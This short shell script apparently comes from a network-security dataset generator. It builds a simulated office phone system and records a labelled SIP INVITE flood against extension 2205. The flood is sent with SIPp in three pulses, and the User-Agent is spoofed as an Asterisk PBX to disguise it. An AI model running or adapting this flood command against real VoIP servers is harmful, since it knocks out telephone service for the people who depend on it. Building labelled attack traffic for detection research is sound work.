# SIPp floods one phone with INVITEs in three pulses, twelve seconds apart.
relocate example.org 5060 10.39.5 198.18.88 198.19.14
EXTENSIONS=(2201 2202 2203 2204 2205 2206)
EXISTING='^22[0-3][0-9]$'
WEAK=none
open_office
add_attacker flooder 198.19.14.121
start_office_capture
keep_alive 9
office_day 409 62
sed 's/User-Agent: .*/User-Agent: Asterisk PBX 13.38.3/' "$parts/sipp/flood-invite.xml" >"$scratch/flood.xml"
for n in 1 2 3; do
    at "$((6 + 12 * n))" attack "A1-$n" invite_flood flooder "$((5060 + n))" "SIPp sends three pulses of forty INVITEs, fifty a second, for 2205, and no ACK." \
        "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/flood.xml" -nostdin -default_behaviors none \
        -i 198.19.14.121 -mi 198.19.14.121 -p "$((5060 + n))" -s 2205 -r 50 -m 40 10.39.5.1:5060
done
play
wait_for A1-1 A1-2 A1-3
close_office
